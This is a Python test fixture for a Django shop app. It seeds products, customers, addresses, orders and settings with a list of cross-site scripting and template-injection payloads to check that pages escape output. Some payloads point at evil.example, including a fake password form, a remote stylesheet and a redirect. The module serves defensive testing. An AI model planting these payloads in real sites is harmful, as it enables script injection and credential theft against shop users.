"""Words that try to be more than words, put everywhere that a store lets somebody write."""

from dataclasses import dataclass, replace

from django.contrib.auth.hashers import make_password

from clientela.accounts import actions as accounts
from clientela.accounts.models import Account
from clientela.catalog.actions import NewProduct, NewVariant, add_product
from clientela.catalog.models import Variant
from clientela.checkout import actions as checkout
from clientela.checkout.models import Checkout
from clientela.checkout.whose import Whose
from clientela.core import seals
from clientela.core.actor import SYSTEM, Actor, visitor
from clientela.core.actor import shopper as customer_actor
from clientela.core.places import Place
from clientela.customers import actions as customers
from clientela.customers.models import AccountState, Customer, Source
from clientela.orders import actions as orders
from clientela.orders.models import Order
from clientela.orders.queries import rates_for
from clientela.payments.providers import test_gateway
from clientela.staff.models import User
from clientela.store.actions import change_settings

# Each would call the marker, or leave an element behind, if any page took it for markup, script or style.
PAYLOADS = [
    "<script>pwn(1)</script>",
    "<img src=x onerror=pwn(2)>",
    "<svg onload=pwn(3)>",
    "<svg><script>pwn(4)</script></svg>",
    '"><x-pwn onclick=pwn(5)>',
    "'><x-pwn>",
    '" onfocus=pwn(6) autofocus x="',
    "' onmouseover='pwn(7)' x='",
    "` onload=pwn(8) ",
    "javascript:pwn(9)",
    "JaVaScRiPt:pwn(10)//",
    "&#106;avascript:pwn(11)",
    "data:text/html,<script>pwn(12)</script>",
    "</title><script>pwn(13)</script>",
    "</textarea><script>pwn(14)</script>",
    "</script><script>pwn(15)</script>",
    "</style><script>pwn(16)</script>",
    "--><script>pwn(17)</script>",
    "]]><x-pwn>",
    "</select><x-pwn>",
    "</option></select><img src=x onerror=pwn(18)>",
    "</a><iframe srcdoc='<script>parent.pwn(19)</script>'>",
    "<iframe src=javascript:pwn(20)>",
    "<object data=javascript:pwn(21)>",
    "<embed src=javascript:pwn(22)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password>",
    "<style>@import '//evil.example'</style>",
    "<math><mtext><x-pwn></mtext></math>",
    "<details open ontoggle=pwn(23)>",
    "<video><source onerror=pwn(24)>",
    "<input autofocus onfocus=pwn(25)>",
    "<x-pwn hx-get=/account/logout hx-trigger=load>",
    "<x-pwn hx-on:load=pwn(26)>",
    "{{ 7*7 }}<x-pwn>",
    "{% include 'admin/login.html' %}<x-pwn>",
    "${pwn(27)}",
    "{{constructor.constructor('pwn(28)')()}}",
    "\\u003cscript\\u003epwn(29)\\u003c/script\\u003e",
    "&lt;script&gt;pwn(30)&lt;/script&gt;",
    "\uff1cscript\uff1epwn(31)\uff1c/script\uff1e",
    "<scr<script>ipt>pwn(32)</scr</script>ipt>",
    "%3Cscript%3Epwn(33)%3C/script%3E",
    "[Click](javascript:pwn(34))",
    "# Heading <x-pwn>",
    "! <x-pwn>",
    "a\tb<x-pwn>",
    "\u202e<x-pwn>\u2028pwn(35)",
]
MANY = "\n".join(PAYLOADS)
AGENT = f"Mozilla/5.0 {PAYLOADS[0]} {PAYLOADS[4]} {PAYLOADS[6]}"
PASSWORD = "seven-slow-lanterns"


def word(number: int, most: int = 80) -> str:
    """One of the payloads, round and round."""
    return PAYLOADS[number % len(PAYLOADS)][:most]


def place_of(number: int) -> Place:
    """An address in which every free field is hostile."""
    return Place(
        first_name=word(number),
        last_name=word(number + 1),
        company=word(number + 2),
        line1=word(number + 3),
        line2=word(number + 4),
        city=word(number + 5),
        postcode="BA1 5BG",
        country="GB",
        phone=word(number + 6),
    )


@dataclass(frozen=True)
class Hostile:
    """What was put into the store."""

    customers: list[Customer]
    orders: list[Order]
    shopper: Customer
    token: str


def plant(owner: User) -> Hostile:
    """Write hostile words into every field, each by the action that its form calls."""
    staff = owner.as_actor("127.0.0.1")
    products = [_product(number) for number in range(0, len(PAYLOADS), 10)]
    people = [_person(number, staff) for number in range(0, len(PAYLOADS), 2)]
    shopper, token = _shopper(people[0])
    placed = [_order(number, products[number % len(products)]) for number in range(0, len(PAYLOADS), 8)]
    own = _order(3, products[0], shopper)
    for number, order in enumerate([*placed[:3], own]):
        orders.fulfil(
            order.pk,
            carrier=word(number * 7),
            tracking_number=word(number * 5 + 1),
            tracking_url=f'https://evil.example/"onclick="pwn`99`?{number}',
            by=staff,
        )
    change_settings(
        {"store.name": word(4), "store.phone": word(1, 40), "store.line1": word(0), "store.city": word(6)},
        by=SYSTEM,
    )
    return Hostile(people, [*placed, own], shopper, token)


def _product(number: int) -> Variant:
    product = add_product(
        NewProduct(
            f"hostile-{number}",
            word(number),
            MANY,
            word(number + 1, 60),
            word(number + 2, 60),
            (word(number + 3), word(number + 4)),
        ),
        [
            NewVariant(
                1234, word(number + 5, 60), {word(number + 6, 40): word(number + 7, 40)}, word(number + 8, 40)
            )
        ],
        by=SYSTEM,
    )
    return product.variants.get()


def _person(number: int, staff: Actor) -> Customer:
    new = customers.NewCustomer(
        first_name=word(number),
        last_name=word(number + 1),
        email=f"hostile.{number}@example.com",
        note=MANY,
        source=Source.STAFF,
    )
    customer = customers.add(new, by=staff)
    customers.add_address(customer.pk, place_of(number), by=staff)
    customers.set_tags(customer.pk, [word(number), word(number + 1), "plain"], by=staff)
    customers.comment(customer.pk, f"{word(number)}\n{word(number + 1)}", by=staff)
    return customer


def _shopper(customer: Customer) -> tuple[Customer, str]:
    """One of them has an account, comes from a browser with a hostile name, and edits their own details."""
    Account.objects.create(customer=customer, password=make_password(PASSWORD))
    customers.set_account_state(customer.pk, AccountState.ENABLED, by=SYSTEM)
    signed_in, token = accounts.sign_in(customer.email, PASSWORD, agent=AGENT, by=visitor("127.0.0.1"))
    own = customer_actor(signed_in.pk, signed_in.name, "127.0.0.1")
    for number in range(10, 40, 6):
        customers.add_address(signed_in.pk, place_of(number), by=own)
    customers.edit(signed_in.pk, {"first_name": word(5), "last_name": word(6)}, by=own)
    return Customer.objects.get(pk=signed_in.pk), token


def _order(number: int, variant: Variant, shopper: Customer | None = None) -> Order:
    """Somebody with a hostile name and address buys a product with a hostile title."""
    by = (
        customer_actor(shopper.pk, shopper.name, "127.0.0.1") if shopper else visitor(f"127.0.0.{number + 2}")
    )
    token = seals.new_token()
    whose = Whose(by.id or None, "" if by.id else token)
    checkout.add_to_cart(whose, variant.pk, 1, by=by)
    begun = checkout.give_contact(
        token, whose, checkout.Contact(f"buyer.{number}@example.net"), by=by, language="en"
    )
    checkout.give_address(token, replace(place_of(number), phone=""), by=by)
    checkout.choose_shipping(token, rates_for("GB")[0].pk, by=by)
    page = checkout.start_payment(token, by=by)
    test_gateway.take_card(page.rpartition("/")[2], "4242424242424242", "12/40", "123")
    Order.objects.filter(pk=checkout.place(begun.pk, by=by).pk).update(note=MANY)
    return Checkout.objects.get(pk=begun.pk).order  # type: ignore[return-value]
